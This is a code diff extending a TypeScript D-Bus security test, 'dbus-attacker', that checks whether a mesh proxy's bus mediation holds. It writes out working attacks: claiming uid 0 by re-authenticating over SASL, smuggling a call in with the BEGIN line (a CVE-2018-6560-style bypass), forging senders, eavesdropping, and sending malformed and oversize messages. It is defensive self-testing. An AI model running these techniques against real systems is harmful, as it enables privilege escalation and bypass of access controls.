@@ -1,13 +1,24 @@
-// dbus-attacker: what a consumer holding a low role (args.json: role `nobody`) can try against the
-// provider's bus through the socket pv-xconnect injects at /run/dbus/system_bus_socket.
-// Run it against your own mesh to check that the mediation holds. Three attempts:
+// dbus-attacker: what a consumer holding a low role (args.json: role `nobody`, interface
+// org.pantavisor.Example) can try against the provider's bus through the socket pv-xconnect injects
+// at /run/dbus/system_bus_socket. Run it against your own mesh to check that the mediation holds.
 //   (a) own org.pantavisor.Example (RequestName, replacing the owner): the provider's policy lets
 //       only root own it;
 //   (b) re-authenticate as root on one connection: after a first authentication (rejected, or
 //       accepted and then cancelled), send `AUTH EXTERNAL 30` (uid 0) and ask the bus which uid it
 //       now sees. pv-xconnect master rewrites only the first AUTH, so this makes a client root;
 //   (c) send with a forged sender: a signal to ourselves claiming to come from
-//       org.pantavisor.Example; the daemon must overwrite the sender with our unique name.
+//       org.pantavisor.Example; the daemon must overwrite the sender with our unique name;
+//   (d) call org.pantavisor.Example.Private, a service we did not declare;
+//   (e) ListNames: does it reveal names we did not declare?
+//   (f) eavesdrop: AddMatch with eavesdrop=true, then BecomeMonitor;
+//   (g) a call to org.pantavisor.Example.Private in the same write as the SASL BEGIN line (the
+//       CVE-2018-6560 class: a proxy that takes those bytes for the end of the handshake lets them
+//       through unfiltered);
+//   (h) a malformed header, then an oversize message, each on its own connection: the connection
+//       must be closed, and a fresh connection must still work.
+// (c) to (f) use the connection (b) authenticated; under pv-xconnect master that is uid 0, which
+// is what the hole in (b) gives any role. Under the documented mesh, a refusal of (d) to (g) comes
+// from the mesh itself (sender org.pantavisor.xconnect), before the bus sees the call.
 // Prints one verdict line per attempt and a summary. Exit 0: every attempt refused; exit 1:
 // `VULNERABLE: ...`; exit 2: the bus could not be reached (nothing was tested).
 //
@@ -16,10 +27,12 @@
 //       the bus behind it, 30 s by default; --help)
 // Stop: SIGTERM or Ctrl-C ends the run between two steps, with no verdict: exit 0.
 //
-// Simplified: (b) and (c) speak SASL and D-Bus by hand on a plain socket (dbus-next's wire codec
+// Simplified: (b) to (h) speak SASL and D-Bus by hand on a plain socket (dbus-next's wire codec
 // encodes the messages), because dbus-next's own connection always runs an honest SASL exchange.
 import { connect, type Socket } from "node:net";
 import { DBusError, type MessageBus, NameFlag, RequestNameReply, sessionBus } from "dbus-next";
+import { headerTypeName } from "dbus-next/lib/constants";
+import DBusBuffer from "dbus-next/lib/dbus-buffer";
 import { marshall, unmarshall, type WireMessage } from "dbus-next/lib/message";
 import { parseCommandLine } from "../../shared/cli";
 import { log, reason } from "../../shared/log";
@@ -31,9 +44,12 @@ import { WAIT_OPTION, waitForPath, waitSeconds } from "../../shared/wait";
 
 const SOCKET_PATH = "/run/dbus/system_bus_socket";
 const BUS_NAME = "org.pantavisor.Example";
+const PRIVATE = { destination: "org.pantavisor.Example.Private", path: "/org/pantavisor/Example/Private", interface: "org.pantavisor.Example.Private", member: "GetInfo" };
+const DRIVER = "org.freedesktop.DBus";
 const ROOT_CLAIM = "30"; // SASL EXTERNAL for uid 0: the decimal digits, hex-encoded
 const STEP_TIMEOUT_MS = 3000;
-const [METHOD_CALL, , ERROR, SIGNAL] = [1, 2, 3, 4];
+const [METHOD_CALL, METHOD_RETURN, ERROR, SIGNAL] = [1, 2, 3, 4];
+const ATTEMPTS = 8;
 
 interface Verdict {
   vulnerable: boolean;
@@ -48,6 +64,7 @@ class RawBus {
   private closed = false;
   private wake: () => void = () => {};
   private serial = 1;
+  private kept: WireMessage[] = [];
   uniqueName = "";
 
   private constructor(private readonly socket: Socket) {
@@ -76,27 +93,73 @@ class RawBus {
     return line.toString("latin1").trim();
   }
 
-  /** Ends SASL, says Hello, and learns our unique name. */
-  async begin(): Promise<void> {
-    this.socket.write("BEGIN\r\n");
-    this.uniqueName = String((await this.callBus("Hello")).body?.[0]);
+  /**
+   * Authenticates with our own uid, as an honest client does; if the bus rejects that, claims
+   * uid 0 on the same connection (the hole of (b)). Resolves with how we got in, or null.
+   */
+  async authenticate(): Promise<string | null> {
+    if ((await this.sasl(`AUTH EXTERNAL ${externalId(process.getuid?.() ?? 0)}`)).startsWith("OK")) return "with our own uid";
+    return (await this.sasl(`AUTH EXTERNAL ${ROOT_CLAIM}`)).startsWith("OK") ? "by claiming uid 0 after a rejection" : null;
+  }
+
+  /** Ends SASL, says Hello, and learns our unique name. `packed` goes in the same write as BEGIN. */
+  async begin(...packed: Omit<WireMessage, "serial">[]): Promise<number[]> {
+    const hello = this.encode({ ...BUS_CALL, member: "Hello" });
+    const extra = packed.map((message) => this.encode(message));
+    this.socket.write(Buffer.concat([Buffer.from("BEGIN\r\n"), hello.bytes, ...extra.map((e) => e.bytes)]));
+    const reply = await this.next((m) => m.replySerial === hello.serial);
+    if (reply.type === ERROR) throw new Error(`Hello: ${reply.errorName}: ${String(reply.body?.[0])}`);
+    this.uniqueName = String(reply.body?.[0]);
+    return extra.map((e) => e.serial);
   }
 
   async callBus(member: string, signature?: string, body?: unknown[]): Promise<WireMessage> {
-    const serial = this.send({ type: METHOD_CALL, path: "/org/freedesktop/DBus", interface: "org.freedesktop.DBus", destination: "org.freedesktop.DBus", member, signature, body });
-    const reply = await this.next((m) => m.replySerial === serial);
+    const reply = await this.call({ ...BUS_CALL, member, signature, body });
     if (reply.type === ERROR) throw new Error(`${member}: ${reply.errorName}: ${String(reply.body?.[0])}`);
     return reply;
   }
 
+  /** A method call; resolves with its reply, a method return or an error. */
+  async call(message: Omit<WireMessage, "serial">): Promise<WireMessage> {
+    const serial = this.send({ type: METHOD_CALL, ...message });
+    return this.next((m) => m.replySerial === serial);
+  }
+
   send(message: Omit<WireMessage, "serial">): number {
-    const serial = this.serial++;
-    this.socket.write(marshall({ ...message, serial })[0]);
+    const { bytes, serial } = this.encode(message);
+    this.socket.write(bytes);
     return serial;
   }
 
-  /** The next message that matches, skipping others (NameAcquired and the like). */
+  /** Raw bytes, however malformed. */
+  write(bytes: Buffer): void {
+    this.socket.write(bytes);
+  }
+
+  /** Resolves true once the other side closed the connection, false after `ms`. */
+  async closedWithin(ms: number): Promise<boolean> {
+    const deadline = Date.now() + ms;
+    while (!this.closed && Date.now() < deadline) {
+      await new Promise<void>((resolve) => {
+        const timer = setTimeout(resolve, deadline - Date.now());
+        this.wake = () => (clearTimeout(timer), resolve());
+      });
+    }
+    return this.closed;
+  }
+
+  private encode(message: Omit<WireMessage, "serial">): { bytes: Buffer; serial: number } {
+    const serial = this.serial++;
+    return { bytes: marshall({ ...message, serial })[0], serial };
+  }
+
+  /**
+   * The next message that matches. Others are kept for a later next() (a reply may arrive before
+   * the one awaited: the mesh answers a refused call at once), up to a few dozen.
+   */
   async next(matches: (message: WireMessage) => boolean): Promise<WireMessage> {
+    const kept = this.kept.findIndex(matches);
+    if (kept !== -1) return this.kept.splice(kept, 1)[0]!;
     for (;;) {
       const frame = await this.take(() => {
         if (this.buffer.length < 16) return null;
@@ -106,8 +169,9 @@ class RawBus {
         const size = 16 + Math.ceil(fields / 8) * 8 + body;
         return this.buffer.length >= size ? size : null;
       });
-      const message = unmarshall(frame);
+      const message = decode(frame);
       if (matches(message)) return message;
+      this.kept = [...this.kept.slice(-31), message];
     }
   }
 
@@ -131,6 +195,28 @@ class RawBus {
     this.buffer = this.buffer.subarray(n);
     return unit;
   }
+}
+
+/**
+ * One message. dbus-next's unmarshall() reads the body by its signature, which a message without
+ * a body (the reply to AddMatch) does not have: its header is read with the same codec instead.
+ */
+function decode(frame: Buffer): WireMessage {
+  const bodyLength = frame[0] === 0x6c ? frame.readUInt32LE(4) : frame.readUInt32BE(4);
+  if (bodyLength > 0) return unmarshall(frame);
+  const [, type, flags, , , serial, fields] = new DBusBuffer(frame, 0, frame[0]!).read("yyyyuua(yv)") as [number, number, number, number, number, number, [number, [unknown, [unknown]]][]];
+  const message: Record<string, unknown> = { type, flags, serial, body: [] };
+  for (const [code, [, [value]]] of fields) message[headerTypeName[code] ?? `field${code}`] = value;
+  return message as unknown as WireMessage;
+}
+
+const BUS_CALL = { type: METHOD_CALL, path: "/org/freedesktop/DBus", interface: DRIVER, destination: DRIVER };
+
+/** "<error name> from <sender>: <text>": the sender tells whether the mesh or the bus refused. */
+function describeError(reply: WireMessage): string {
+  const by = reply.sender === DRIVER ? "the bus" : reply.sender ?? "(no sender)";
+  const text = String(reply.body?.[0]);
+  return `${reply.errorName} from ${by}: ${text.length > 200 ? `${text.slice(0, 200)}...` : text}`;
 }
 
 function externalId(uid: number): string {
@@ -178,7 +264,7 @@ async function tryOwnName(path: string): Promise<Verdict> {
 }
 
 /** (b) Claim uid 0 after a first authentication; resolves with the verdict and, if authenticated, the connection. */
-async function tryReauthAsRoot(path: string, role: string): Promise<Verdict & { bus: RawBus | null }> {
+async function tryReauthAsRoot(path: string, role: string): Promise<Verdict & { bus: RawBus | null; uid?: number }> {
   const bus = await RawBus.open(path);
   try {
     const first = await bus.sasl(`AUTH EXTERNAL ${externalId(process.getuid?.() ?? 0)}`);
@@ -192,7 +278,7 @@ async function tryReauthAsRoot(path: string, role: string): Promise<Verdict & { 
     await bus.begin();
     const uid = Number((await bus.callBus("GetConnectionUnixUser", "s", [bus.uniqueName])).body?.[0]);
     const vulnerable = uid === 0 && role !== "root" && role !== "0";
-    return { vulnerable, bus, detail: `first authentication ${before}; after claiming uid 0 the bus sees uid ${uid}` };
+    return { vulnerable, bus, uid, detail: `first authentication ${before}; after claiming uid 0 the bus sees uid ${uid}` };
   } catch (error) {
     bus.close();
     return { vulnerable: false, bus: null, detail: `the bus ended the exchange: ${(error as Error).message}` };
@@ -208,6 +294,102 @@ async function tryForgedSender(bus: RawBus): Promise<Verdict> {
   } catch (error) {
     return { vulnerable: false, detail: `not delivered: ${(error as Error).message}` };
   }
+}
+
+/** (d) A call to the service nobody declared. */
+async function tryPrivate(bus: RawBus): Promise<Verdict> {
+  const reply = await bus.call(PRIVATE);
+  if (reply.type === METHOD_RETURN) return { vulnerable: true, detail: `${PRIVATE.destination} answered: ${String(reply.body?.[0])}` };
+  return { vulnerable: false, detail: describeError(reply) };
+}
+
+/** (e) Which names ListNames shows besides the bus, ourselves and the name we declared. */
+async function tryListNames(bus: RawBus): Promise<Verdict> {
+  const names = ((await bus.callBus("ListNames")).body?.[0] as string[]).sort();
+  const undeclared = names.filter((name) => name !== DRIVER && name !== BUS_NAME && name !== bus.uniqueName);
+  if (undeclared.length > 0) return { vulnerable: true, detail: `ListNames shows names we did not declare: ${undeclared.join(", ")}` };
+  return { vulnerable: false, detail: `ListNames shows only ${names.map((name) => (name === bus.uniqueName ? `${name} (ourselves)` : name)).join(", ")}` };
+}
+
+/**
+ * (f) An eavesdropping match rule: accepted, does it deliver another connection's call to
+ * org.pantavisor.Example (made on a second connection of ours)? Then BecomeMonitor, which ends
+ * what this connection can do.
+ */
+async function tryEavesdrop(bus: RawBus, path: string): Promise<Verdict> {
+  const outcome = (reply: WireMessage): string => (reply.type === ERROR ? `refused (${describeError(reply)})` : "accepted");
+  const match = await bus.call({ ...BUS_CALL, member: "AddMatch", signature: "s", body: ["type='method_call',eavesdrop=true"] });
+  let overheard = "";
+  if (match.type !== ERROR) {
+    const other = await RawBus.open(path);
+    try {
+      if ((await other.authenticate()) !== null) {
+        await other.begin();
+        await other.call({ destination: BUS_NAME, path: "/org/pantavisor/Example", interface: BUS_NAME, member: "GetInfo" });
+        const seen = await bus.next((m) => m.type === METHOD_CALL && m.sender === other.uniqueName).then(() => true, () => false);
+        overheard = seen ? ", and it delivered another connection's call" : ", but it delivered no other connection's call";
+      }
+    } finally {
+      other.close();
+    }
+  }
+  const monitor = await bus.call({ ...BUS_CALL, interface: "org.freedesktop.DBus.Monitoring", member: "BecomeMonitor", signature: "asu", body: [[], 0] });
+  const vulnerable = overheard.startsWith(", and") || monitor.type !== ERROR;
+  return { vulnerable, detail: `AddMatch eavesdrop=true ${outcome(match)}${overheard}; BecomeMonitor ${outcome(monitor)}` };
+}
+
+/** (g) BEGIN, Hello and a call to the undeclared service, all in one write. */
+async function tryCallPackedWithBegin(path: string): Promise<Verdict> {
+  const bus = await RawBus.open(path);
+  try {
+    const how = await bus.authenticate();
+    if (how === null) return { vulnerable: false, detail: "not tried: the bus rejected every authentication" };
+    const [serial] = await bus.begin({ type: METHOD_CALL, ...PRIVATE });
+    const reply = await bus.next((m) => m.replySerial === serial);
+    if (reply.type === METHOD_RETURN) return { vulnerable: true, detail: `authenticated ${how}; the packed call was answered: ${String(reply.body?.[0])}` };
+    return { vulnerable: false, detail: `authenticated ${how}; the packed call got ${describeError(reply)}` };
+  } catch (error) {
+    return { vulnerable: false, detail: `the connection ended: ${(error as Error).message}` };
+  } finally {
+    bus.close();
+  }
+}
+
+// (h) A header field of the wrong type (DESTINATION as a uint32), and a fixed header that
+// announces a 256 MiB body (the spec's limit is 128 MiB); serial 9 comes after Hello's.
+const MALFORMED = Buffer.from("6c01000100000000090000000800000006017500" + "00000000", "hex");
+const OVERSIZE = Buffer.from("6c0100010000001009000000" + "00000000", "hex");
+
+/** (h) Each bad message on a connection of its own must close it; then a fresh connection must still work. */
+async function tryBadMessages(path: string): Promise<Verdict> {
+  const results: string[] = [];
+  let vulnerable = false;
+  for (const [what, bytes] of [["malformed header", MALFORMED], ["oversize message (256 MiB announced)", OVERSIZE]] as const) {
+    const bus = await RawBus.open(path);
+    try {
+      if ((await bus.authenticate()) === null) return { vulnerable: false, detail: "not tried: the bus rejected every authentication" };
+      await bus.begin();
+      bus.write(bytes);
+      const closed = await bus.closedWithin(STEP_TIMEOUT_MS);
+      vulnerable ||= !closed;
+      results.push(`${what}: ${closed ? "connection closed" : `still open after ${STEP_TIMEOUT_MS} ms`}`);
+    } finally {
+      bus.close();
+    }
+  }
+  const fresh = await RawBus.open(path);
+  try {
+    await fresh.authenticate();
+    await fresh.begin();
+    const owner = String((await fresh.callBus("GetNameOwner", "s", [BUS_NAME])).body?.[0]);
+    results.push(`a fresh connection then found ${BUS_NAME} owned by ${owner}`);
+  } catch (error) {
+    vulnerable = true;
+    results.push(`a fresh connection then failed: ${(error as Error).message}`);
+  } finally {
+    fresh.close();
+  }
+  return { vulnerable, detail: results.join("; ") };
 }
 
 async function main(): Promise<number> {
@@ -245,14 +427,24 @@ async function main(): Promise<number> {
     report(`(a) own ${BUS_NAME}`, await tryOwnName(path));
     const reauth = await tryReauthAsRoot(path, role);
     report("(b) re-authenticate as uid 0", reauth);
-    if (reauth.bus === null) report("(c) forged sender", { vulnerable: false, detail: "not tried: no authenticated connection" });
-    else report("(c) forged sender", await tryForgedSender(reauth.bus));
+    const onReauth: [string, (bus: RawBus) => Promise<Verdict>][] = [
+      ["(c) forged sender", tryForgedSender],
+      [`(d) call ${PRIVATE.destination}`, tryPrivate],
+      ["(e) ListNames reveals undeclared names", tryListNames],
+      ["(f) eavesdrop (AddMatch eavesdrop=true, BecomeMonitor)", (bus) => tryEavesdrop(bus, path)],
+    ];
+    for (const [attempt, tryIt] of onReauth) {
+      if (reauth.bus === null) report(attempt, { vulnerable: false, detail: "not tried: no authenticated connection" });
+      else report(attempt, await tryIt(reauth.bus).catch((error: unknown) => ({ vulnerable: false, detail: `the connection ended: ${(error as Error).message}` })));
+    }
     reauth.bus?.close();
+    report("(g) call packed into the same write as BEGIN", await tryCallPackedWithBegin(path));
+    report("(h) malformed and oversize messages", await tryBadMessages(path));
   };
   try {
     // A signal ends the run between two steps; the connections still open close with the process.
     await Promise.race([attempts(), untilAborted(stopping)]);
-    if (stopping.aborted) return stopped(stopping, `after ${verdicts.length} of 3 attempts`);
+    if (stopping.aborted) return stopped(stopping, `after ${verdicts.length} of ${ATTEMPTS} attempts`);
   } catch (error) {
     if (error instanceof Unreachable) throw new FatalError(`${error.message}: nothing tested`, 2);
     throw error;
